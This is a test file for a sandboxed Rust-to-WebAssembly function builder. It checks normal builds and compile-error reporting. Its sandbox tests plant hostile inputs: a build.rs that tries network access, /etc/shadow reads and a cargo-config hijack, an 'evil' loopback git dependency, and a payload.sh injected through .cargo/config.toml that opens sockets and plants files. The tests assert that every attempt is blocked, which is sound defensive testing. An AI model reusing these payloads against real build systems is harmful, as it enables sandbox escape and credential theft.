// The rust builder end to end with real parts: the template (Spin Rust SDK) fetched with
// `cargo fetch`, compiled offline for wasm32-wasip1 by Debian 13's rustc in a chroot of the
// toolchain root (scripts/rust-wasm-root.sh, cached in .cache/rust-wasm) with no network,
// made a component with the preview 1 adapter, pushed to a real registry in the Spin format,
// then loaded into the wasmtime worker and invoked. A compile error fails with the file and
// line. Needs root (the sandbox's mount namespace and chroot). The template's crates compile in
// 2-4 min on two shared cores the first time; DEPENDENCY_CACHE keeps them in
// .cache/test-rust-deps for the next run, as the local runtime keeps an application's.
import { existsSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import t from 'tap'
import { templateFiles } from '@session-relay/spin/templates'
import { startCanary } from '../helpers/canary.js'
import { buildAndRead, checkSpinFormat, invokeThroughWorker } from '../helpers/compiled-builds.js'
import { until } from '../helpers/wait.js'

t.setTimeout(900_000)
const deps = join(fileURLToPath(new URL('../../', import.meta.url)), '.cache', 'test-rust-deps')

t.test('the rust template builds, pushes in the Spin format and answers through the worker', async (t) => {
  const { build, built } = await buildAndRead(t, 'rust', templateFiles('rust', 'hello'), { DEPENDENCY_CACHE: deps })
  if (built === null) return t.fail(build.log)
  t.comment(`rust template build + push: ${build.ms} ms, component ${built.wasm.length} bytes`)
  checkSpinFormat(t, built, null)
  t.equal(built.wasm.subarray(0, 8).toString('hex'), '0061736d0d000100', 'a component')
  t.match(
    build.log,
    /==> cargo build: cargo build --release --offline .* \(sandboxed, no network\)/,
    'the compile runs without network in its own namespaces',
  )
  const answer = await invokeThroughWorker(t, built, '/hello/deeper?x=1')
  t.equal(answer.status, 200)
  t.equal(answer.text, 'hello from hello\n')
  t.equal(answer.headers.get('x-request-path'), '/hello/deeper')
  await until(() => answer.log().includes('hello: /hello/deeper'), 5_000, "the function's stderr in the worker's log")
})

t.test(
  'a rust compile error fails the build with the file and line in the termination log and the build log',
  async (t) => {
    const files = templateFiles('rust', 'hello')
    files['src/lib.rs'] = (files['src/lib.rs'] as string).replace('.status(200)', '.status(undefined_name)')
    const { build } = await buildAndRead(t, 'rust', files, { DEPENDENCY_CACHE: deps })
    t.equal(build.code, 1)
    t.match(
      build.termination,
      /^function hello: functions\/hello\/src\/lib\.rs:10:17: error\[E0425\]: cannot find value `undefined_name` in this scope: not found in this scope$/,
    )
    t.match(build.log, /src\/lib\.rs:\d+:\d+: error\[E0425\]: cannot find value `undefined_name`/)
  },
)

t.test("build.rs cannot reach the network, the machine's files or its own cargo home", async (t) => {
  const canary = await startCanary(t)
  const files = templateFiles('rust', 'hello')
  // The variables a build script may see are cargo's own (cargo sets the library path and its
  // trust store's, bwrap PWD), none of the builder's.
  files['build.rs'] = [
    'use std::path::Path;',
    'fn main() {',
    `    let net = std::net::TcpStream::connect("1.1.1.1:443").is_ok() || std::net::TcpStream::connect("127.0.0.1:${canary.port}").is_ok();`,
    `    let files = Path::new("/work").exists() || Path::new("/root").read_dir().is_ok() || std::fs::read("${canary.file}").is_ok() || std::fs::read("/etc/shadow").is_ok();`,
    '    let proxy = Path::new("/run/fetch.sock").exists();',
    '    let home = std::fs::write("/cargo/config.toml", "[build]\\nrustc-wrapper = \\"/bin/sh\\"\\n").is_ok();',
    '    let procs = std::fs::read_dir("/proc").unwrap().filter(|e| e.as_ref().unwrap().file_name().to_string_lossy().chars().all(|c| c.is_ascii_digit())).count();',
    '    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();',
    '    let field = |name: &str| status.lines().find(|l| l.starts_with(name)).unwrap_or("").split_whitespace().nth(1).unwrap_or("").to_string();',
    '    let env = std::env::vars().map(|(k, _)| k).filter(|k| !k.starts_with("CARGO") && !k.starts_with("RUSTC") && !k.starts_with("DEP_") && !["PATH", "HOME", "OUT_DIR", "TARGET", "HOST", "NUM_JOBS", "OPT_LEVEL", "DEBUG", "PROFILE", "RUSTDOC", "RUSTFLAGS", "LD_LIBRARY_PATH", "PWD", "SSL_CERT_DIR", "SSL_CERT_FILE"].contains(&k.as_str())).collect::<Vec<_>>().join(",");',
    '    panic!("SANDBOX net={net} files={files} proxy={proxy} home={home} few_procs={} uid={} nnp={} caps={} env=[{env}]", procs < 32, field("Uid:"), field("NoNewPrivs:"), field("CapEff:"));',
    '}',
  ].join('\n')
  const { build } = await buildAndRead(t, 'rust', files, { DEPENDENCY_CACHE: deps })
  t.equal(build.code, 1)
  t.match(
    build.log,
    /SANDBOX net=false files=false proxy=false home=false few_procs=true uid=65534 nnp=1 caps=0000000000000000 env=\[\]/,
    'no network, no host file, no proxy, a read-only cargo home, its own pid namespace, nobody without privileges, no foreign variable',
  )
  t.equal(canary.connections(), 0)
  t.notOk(existsSync(join(deps, 'cargo', 'config.toml')), 'nothing written to the cargo home')
})

t.test("a dependency's source on loopback: cargo fetch is refused by the fetch proxy", async (t) => {
  const canary = await startCanary(t)
  const files = templateFiles('rust', 'hello')
  files['Cargo.toml'] = (files['Cargo.toml'] as string).replace(
    '[dependencies]',
    `[dependencies]\nevil = { git = "http://127.0.0.1:${canary.port}/evil.git" }`,
  )
  const { build } = await buildAndRead(t, 'rust', files, { DEPENDENCY_CACHE: deps })
  t.equal(build.code, 1)
  t.match(build.log, /fetch proxy: refused an address literal/)
  t.equal(canary.connections(), 0, 'the loopback server was never reached')
})

t.test("a .cargo/config.toml cannot run the tenant's own rustc while cargo fetches", async (t) => {
  const canary = await startCanary(t)
  const files = templateFiles('rust', 'hello')
  // cargo asks the configured rustc for `-vV` before it fetches: this ran the tenant's script
  // as nobody in the host's network namespace, which could read the control plane on loopback.
  files['.cargo/config.toml'] = '[build]\nrustc-wrapper = "/bin/sh"\nrustc = "/build/payload.sh"\n'
  files['payload.sh'] = [
    `perl -MIO::Socket::INET -e 'IO::Socket::INET->new("127.0.0.1:${canary.port}")'`,
    `cat ${canary.file} > ${canary.marker}`,
    'echo planted > /cargo/planted',
    'exec rustc "$@"',
    '',
  ].join('\n')
  const { build, built } = await buildAndRead(t, 'rust', files, { DEPENDENCY_CACHE: deps })
  t.ok(built, 'the function builds with the toolchain, not the payload')
  t.match(build.log, /ignored functions\/hello\/\.cargo\/config\.toml: "\.cargo" is read by the build's toolchain/)
  t.equal(canary.connections(), 0, 'the canary server was never reached')
  t.notOk(canary.markerWritten(), 'the marker was never written')
  t.notOk(existsSync(join(deps, 'cargo', 'planted')), 'nothing planted in the cargo home')
})
